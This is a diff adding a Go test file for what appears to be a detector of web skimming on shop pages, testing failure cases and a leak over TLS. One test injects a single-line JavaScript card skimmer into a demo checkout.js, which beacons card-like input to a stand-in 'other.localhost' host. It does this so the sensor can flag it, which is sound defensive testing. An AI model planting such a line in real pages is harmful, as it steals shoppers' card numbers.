@@ -1,0 +1,139 @@
+package page
+
+import (
+	"context"
+	"net"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/tillwatch/tillwatch"
+	"github.com/tillwatch/tillwatch/demoshop"
+)
+
+// observe looks at an address and gives what the sensor reported.
+func observe(t *testing.T, c Config, address string) (signs []tillwatch.Sign, gaps []tillwatch.Gap, passed bool) {
+	t.Helper()
+	sensor, err := New(c)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
+	defer cancel()
+	err = sensor.Observe(ctx, tillwatch.Target{Kind: tillwatch.KindPage, Place: address}, func(o tillwatch.Observation) error {
+		switch o := o.(type) {
+		case tillwatch.Sign:
+			signs = append(signs, o)
+		case tillwatch.Gap:
+			gaps = append(gaps, o)
+		case tillwatch.Pass:
+			passed = true
+		case tillwatch.Item:
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return signs, gaps, passed
+}
+
+// wantGap wants a gap that says words, or one of several with a | between.
+func wantGap(t *testing.T, gaps []tillwatch.Gap, words string) {
+	t.Helper()
+	for _, g := range gaps {
+		for _, w := range strings.Split(words, "|") {
+			if strings.Contains(g.Why, w) {
+				return
+			}
+		}
+	}
+	var whys []string
+	for _, g := range gaps {
+		whys = append(whys, g.Why)
+	}
+	t.Errorf("no gap says %q: %q", words, whys)
+}
+
+// Whatever a shop does to its visitors, the look ends, says why, and never says that it saw the shop.
+func TestTrouble(t *testing.T) {
+	t.Parallel()
+	for kind, words := range map[demoshop.TroubleKind]string{
+		demoshop.Maintenance:  "maintenance",
+		demoshop.RedirectLoop: "redirects without end",
+		demoshop.AlertLoop:    "dialogs",
+		demoshop.BusyLoop:     "does not answer",
+		demoshop.NeverEnds:    "never comes to rest",
+		demoshop.Huge:         "does not answer",
+		demoshop.Download:     "a download, not a page",
+		demoshop.Crash:        "crashed|does not answer", // a renderer may take its time to die
+	} {
+		t.Run(string(kind), func(t *testing.T) {
+			t.Parallel()
+			shop := openShop(t, demoshop.Config{Trouble: demoshop.Trouble{Kind: kind}})
+			_, gaps, passed := observe(t, Config{}, shop.URL("shop.localhost"))
+			wantGap(t, gaps, words)
+			if passed {
+				t.Error("a shop that was not seen was passed")
+			}
+		})
+	}
+}
+
+func TestNoAnswer(t *testing.T) {
+	t.Parallel()
+	silent, err := net.Listen("tcp", "127.0.0.1:0") // a port that nobody listens at a moment later
+	if err != nil {
+		t.Fatal(err)
+	}
+	silent.Close()
+	shop := openShop(t, demoshop.Config{})
+	for words, address := range map[string]string{
+		"connection refused":   "http://" + silent.Addr().String() + "/",
+		"cannot be resolved":   "http://no-such-shop.invalid/",
+		"TLS error":            shop.TLSURL("shop.localhost"),
+		"not HTTP":             strings.Replace(shop.URL("shop.localhost"), "http:", "https:", 1),
+		"no goods":             shop.URL("cdn.localhost"),
+		"no address of a shop": "nonsense",
+	} {
+		_, gaps, passed := observe(t, Config{}, address)
+		wantGap(t, gaps, words)
+		if passed || len(gaps) == 0 {
+			t.Errorf("%s: passed %v", address, passed)
+		}
+	}
+}
+
+// Over TLS the witness opens what the browser sends, so that a leak is seen there as well; and a look leaves nothing behind.
+func TestALeakOverTLS(t *testing.T) {
+	t.Parallel()
+	shop := openShop(t, demoshop.Config{})
+	script := filepath.Join(shop.Docroot(), "assets", "js", "checkout.js")
+	text, err := os.ReadFile(script)
+	if err != nil {
+		t.Fatal(err)
+	}
+	thief := strings.TrimSuffix(shop.TLSURL("other.localhost"), "/")
+	text = append(text, []byte(`
+document.addEventListener('change', e => /^\d[\d ]{14,}$/.test(e.target.value) && navigator.sendBeacon('`+thief+`/b', e.target.value));`)...)
+	if err := os.WriteFile(script, text, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	roots, err := readRoots(shop.CAFile())
+	if err != nil {
+		t.Fatal(err)
+	}
+	signs, gaps, _ := observe(t, Config{Roots: roots}, shop.TLSURL("shop.localhost"))
+	if len(gaps) > 0 {
+		t.Errorf("not seen: %q", gaps[0].Why)
+	}
+	if len(signs) == 0 || signs[0].Severity != tillwatch.Critical || !strings.Contains(signs[0].Place, "other.localhost") {
+		t.Errorf("a beacon with the card number over TLS gave %+v", signs)
+	}
+	if u, _ := url.Parse(thief); len(signs) > 0 && !strings.Contains(signs[0].Evidence[0].Destination, u.Host) {
+		t.Errorf("%+v", signs[0].Evidence)
+	}
+}
